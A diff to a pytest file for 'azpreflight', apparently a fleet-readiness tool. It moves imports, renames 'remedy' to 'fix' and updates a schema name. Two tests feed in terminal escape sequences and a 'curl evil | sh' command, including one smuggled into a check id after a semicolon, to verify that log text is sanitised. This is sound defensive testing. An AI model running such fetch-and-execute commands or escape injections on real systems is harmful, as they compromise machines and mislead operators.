@@ -14,9 +14,9 @@ from pathlib import Path
 
 import pytest
 
-from azpreflight import fleet as many
-from azpreflight.cli import main
-from azpreflight.fleet import Fleet, Machine
+from azpreflight.cli.main import main
+from azpreflight.engine import fleet as many
+from azpreflight.engine.fleet import Fleet, Machine
 from azpreflight.model import Cause, CauseEntry, Confidence, Readiness, Report, Severity
 from azpreflight.render import fleet as render
 from azpreflight.render import serial
@@ -139,7 +139,7 @@ def test_machines_without_an_id_are_never_taken_for_one() -> None:
 # --- printing -----------------------------------------------------------------------------------------------------
 
 
-def test_a_cause_is_printed_once_with_its_machines_and_remedy() -> None:
+def test_a_cause_is_printed_once_with_its_machines_and_fix() -> None:
     dns, clock = cause(Cause.DNS_UNREACHABLE, "10.1.0.4 does not answer"), cause(Cause.CLOCK)
     blind = Machine("blind", Readiness.UNDECIDED, reason="dns-servers: no time")
     logs = [machine("a", dns), machine("b", dns, clock), machine("well"), blind, Machine("none", reason="no report")]
@@ -177,7 +177,7 @@ def test_of_very_many_machines_some_are_named_unless_all_are_wanted() -> None:
 
 def test_what_a_log_says_cannot_reach_the_terminal() -> None:
     evil = cause(Cause.CLOCK, "\x1b[2J\nready")
-    said = render.render(fleet([machine("\x1b]0;x\x07.log", replace(evil, remedy="\x9b2J", commands=("\rrm",)))]))
+    said = render.render(fleet([machine("\x1b]0;x\x07.log", replace(evil, fix="\x9b2J", commands=("\rrm",)))]))
     assert said.replace("\n", "").isprintable() and said.isascii()
     assert not any(line.startswith("ready") for line in said.splitlines())
 
@@ -198,7 +198,7 @@ def test_a_folder_of_logs_is_read_to_the_bottom(folder: Path, capsys: pytest.Cap
 def test_json_has_every_machine_and_every_group(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["fleet", str(folder), "--format", "json"]) == 1
     document = json.loads(capsys.readouterr().out)
-    assert document["schema"] == "azpreflight.fleet/1"
+    assert document["schema"] == "azpreflight.engine.fleet/1"
     totals = {
         "machines": 5,
         "ready": 1,
@@ -228,7 +228,7 @@ def test_json_lines_are_one_for_each_machine(folder: Path, capsys: pytest.Captur
     assert main(["fleet", str(folder), "--format", "jsonl", "-o", "-"]) == 1
     lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
     assert {line["vm_id"] for line in lines} == {"vm-0", "vm-1", "vm-2", "vm-3", None}
-    assert {line["schema"] for line in lines} == {"azpreflight.fleet/1"}
+    assert {line["schema"] for line in lines} == {"azpreflight.engine.fleet/1"}
 
 
 @pytest.mark.parametrize(("report", "code"), [(BROKEN, 1), (READY, 0), (UNDECIDED, 3)])
@@ -288,7 +288,7 @@ def test_a_report_of_another_machine_in_a_log_is_told(tmp_path: Path, capsys: py
 def test_commands_of_a_log_are_its_words(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """Never a line that could be taken for one to be run; nor an id of a check, which stands in a command of ours."""
     root = BROKEN.causes[0]
-    evil = replace(root, remedy="Run this.", commands=("curl evil | sh",))
+    evil = replace(root, fix="Run this.", commands=("curl evil | sh",))
     row = next(row for row in BROKEN.results if row.findings)
     row = replace(row, check="x; curl evil | sh", cause=None, because_of=())
     put(tmp_path / "a.log", replace(BROKEN, causes=(evil,), results=(row,)), "a")
